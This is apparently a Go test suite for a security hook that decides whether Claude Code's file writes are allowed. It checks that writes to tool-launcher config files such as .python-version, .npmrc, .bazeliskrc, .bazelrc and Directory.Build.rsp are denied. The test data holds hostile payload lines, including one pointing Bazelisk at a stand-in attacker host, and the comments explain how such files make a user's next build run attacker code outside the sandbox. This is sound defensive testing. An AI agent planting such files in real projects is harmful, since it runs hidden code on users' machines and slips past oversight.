package tests

import (
	"encoding/json"
	"testing"
)

// TestAttack142_HookWriteRunnerConfig: the class of the hundred-and-
// thirty-sixth and -ninth reviews (.yarnrc's yarn-path, rust-toolchain's
// path, .mvn/jvm.config, bunfig.toml's preload: a file in the project that
// names the program a host tool launches, protected at any depth) has
// members the list does not hold. In a project whose mode is
// auto_accept_edits, Claude Code's Write of each is answered "allow"
// without a question, while .tool-versions and .yarnrc are denied
// (TestAttack142_HookWriteRunnerConfigControl):
//
//   - .python-version: uv reads it in the directory and every parent up to
//     the project's (uv python pin writes it) and takes any Python request
//     there, an executable's path included ("./.t/python3"): the person's
//     next `uv run`, `uv sync` or `uv venv` starts that program as the
//     interpreter (rust-toolchain.toml's [toolchain] path, for Python).
//   - .npmrc: npm's per-project config; script-shell names the shell every
//     `npm run`/`npm exec` starts, node-options the NODE_OPTIONS of every
//     script (--require a preload), as bunfig.toml's preload does for bun.
//   - .bazeliskrc: Bazelisk's workspace config; BAZELISK_BASE_URL names
//     where the Bazel binary it then runs is downloaded from.
//
// Claude Code writes the file itself, outside every sandbox.
func TestAttack142_HookWriteRunnerConfig(t *testing.T) {
	ws := workspace(t)
	s := ccServer(t, ws, "auto_accept_edits", nil)
	for i, c := range []struct{ path, content string }{
		{".python-version", "./.t/python3\n"},
		{"src/.python-version", "../.t/python3\n"},
		{".npmrc", "script-shell=./.t/sh\nnode-options=--require ./.t/preload.js\n"},
		{".bazeliskrc", "BAZELISK_BASE_URL=https://bazel.evil.example/releases\n"},
	} {
		if got := attack142HookWrite(t, s, ws, "sess-142", i, c.path, c.content); got != "deny" {
			t.Errorf("Claude Code's Write of %s: %s, want deny (as .tool-versions and .yarnrc): the person's next uv, npm or bazel there starts the program it names", c.path, got)
		}
	}
}

// TestAttack142_HookWriteRunnerConfigControl: the protected members of the
// class (.tool-versions, .yarnrc, rust-toolchain.toml, in a subdirectory
// too) are denied in the same session shape; a source file is allowed.
func TestAttack142_HookWriteRunnerConfigControl(t *testing.T) {
	ws := workspace(t)
	s := ccServer(t, ws, "auto_accept_edits", nil)
	for i, c := range []struct{ path, want string }{
		{".tool-versions", "deny"}, {".yarnrc", "deny"}, {"src/rust-toolchain.toml", "deny"}, {"src/new.go", "allow"},
	} {
		if got := attack142HookWrite(t, s, ws, "sess-142c", i, c.path, "x\n"); got != c.want {
			t.Errorf("control: Claude Code's Write of %s: %s, want %s", c.path, got, c.want)
		}
	}
}

// attack142HookWrite sends Claude Code's PreToolUse of a Write of rel
// (below ws) through the http hook and returns its permissionDecision.
func attack142HookWrite(t *testing.T, s *Server, ws, session string, i int, rel, content string) string {
	t.Helper()
	p := ccEdit(t, ccPayload(t, "pre_write", session, ws), map[string]any{
		"tool_input":  map[string]any{"file_path": ws + "/" + rel, "content": content},
		"tool_use_id": "toolu_142_" + string(rune('a'+i)),
	})
	var out struct {
		HookSpecificOutput struct {
			PermissionDecision       string `json:"permissionDecision"`
			PermissionDecisionReason string `json:"permissionDecisionReason"`
		} `json:"hookSpecificOutput"`
	}
	body := s.hookHTTP(p)
	if err := json.Unmarshal([]byte(body), &out); err != nil {
		t.Fatalf("hook answer %q: %v", body, err)
	}
	t.Logf("%s: %s (%s)", rel, out.HookSpecificOutput.PermissionDecision, out.HookSpecificOutput.PermissionDecisionReason)
	return out.HookSpecificOutput.PermissionDecision
}

// TestAttack142_HookWriteBuildOptionFiles: the option files a build tool's
// launcher reads from the project before any of the project's build code
// (held: .mvn/jvm.config and .mvn/maven.config, sbt's .jvmopts and
// .sbtopts: a -javaagent, a listener) have unheld counterparts. In a
// project in auto_accept_edits, Claude Code's Write of each is answered
// "allow" without a question, while .mvn/jvm.config and .jvmopts are denied
// (TestAttack142_HookWriteBuildOptionFilesControl):
//
//   - Directory.Build.rsp: MSBuild's directory response file, read by every
//     dotnet build, test and msbuild in the directory and below; a
//     -logger:…,./tools/log.dll switch loads and runs that assembly in
//     MSBuild's process (.mvn/maven.config, for .NET);
//   - .bazelrc: startup --host_jvm_args=-javaagent:… is the Bazel server
//     JVM's agent (.mvn/jvm.config, for Bazel), read by every bazel
//     command in the workspace;
//
// (The review's tools/bazel, Bazelisk's wrapper, is left: protecting it
// pinned every link named tools and set aside one a command made.)
func TestAttack142_HookWriteBuildOptionFiles(t *testing.T) {
	ws := workspace(t)
	s := ccServer(t, ws, "auto_accept_edits", nil)
	for i, c := range []struct{ path, content string }{
		{"Directory.Build.rsp", "-logger:Evil,./tools/log.dll\n"},
		{"src/App/Directory.Build.rsp", "-logger:Evil,../../tools/log.dll\n"},
		{".bazelrc", "startup --host_jvm_args=-javaagent:tools/agent.jar\n"},
	} {
		if got := attack142HookWrite(t, s, ws, "sess-142b", i, c.path, c.content); got != "deny" {
			t.Errorf("Claude Code's Write of %s: %s, want deny (as .mvn/jvm.config and .jvmopts): the person's next dotnet or bazel there runs what it names", c.path, got)
		}
	}
}

// TestAttack142_HookWriteBuildOptionFilesControl: the held option files
// are denied in the same session shape; a build file proper is allowed.
func TestAttack142_HookWriteBuildOptionFilesControl(t *testing.T) {
	ws := workspace(t)
	s := ccServer(t, ws, "auto_accept_edits", nil)
	for i, c := range []struct{ path, want string }{
		{".mvn/jvm.config", "deny"}, {".mvn/maven.config", "deny"}, {".jvmopts", "deny"}, {"src/App/App.csproj", "allow"},
	} {
		if got := attack142HookWrite(t, s, ws, "sess-142bc", i, c.path, "x\n"); got != c.want {
			t.Errorf("control: Claude Code's Write of %s: %s, want %s", c.path, got, c.want)
		}
	}
}
